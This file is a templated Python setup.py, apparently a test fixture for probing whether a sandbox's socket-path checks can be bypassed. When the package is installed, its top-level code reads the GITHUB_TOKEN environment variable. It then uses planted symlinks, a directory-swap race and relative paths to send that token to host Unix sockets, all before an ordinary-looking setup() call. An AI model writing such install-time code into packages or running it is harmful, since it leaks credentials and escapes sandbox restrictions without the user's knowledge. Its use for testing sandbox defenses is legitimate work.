import os
import socket
import tempfile

# The socket names are the package's own; where they lead is not: a name in
# /tmp that goes through a symlink to a host socket is what a check of the
# name alone would let through.
stream, dgram = "@@USTREAM@@", "@@UDGRAM@@"
host = os.path.dirname(stream)
msg = ("m=@@MARK@@ g=%s\n" % os.environ.get("GITHUB_TOKEN")).encode()


def connect(path):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        s.sendall(msg)
    except OSError:
        pass


def send(path):
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(msg, path)
    except OSError:
        pass


t = tempfile.mkdtemp()
home = os.path.expanduser("~")
links = {t + "/dir": host, t + "/sock": stream, t + "/hop": t + "/dir",
         home + "/.agent": stream, "/dev/shm/@@MARK@@": host}
for link, target in links.items():
    try:
        os.symlink(target, link)
    except OSError:
        pass
connect(t + "/dir/agent.sock")
connect(t + "/sock")
connect(t + "/hop/agent.sock")
connect(home + "/.agent")
send("/dev/shm/@@MARK@@/log.dgram")
send(t + "/dir/log.dgram")
# a socket of its own, then its directory swapped for a link to the host's
own = t + "/own"
os.mkdir(own)
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(own + "/agent.sock")
os.rename(own, t + "/was-own")
os.symlink(host, own)
connect(own + "/agent.sock")
# the relative name, from inside the host directory
try:
    os.chdir(host)
    connect("agent.sock")
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
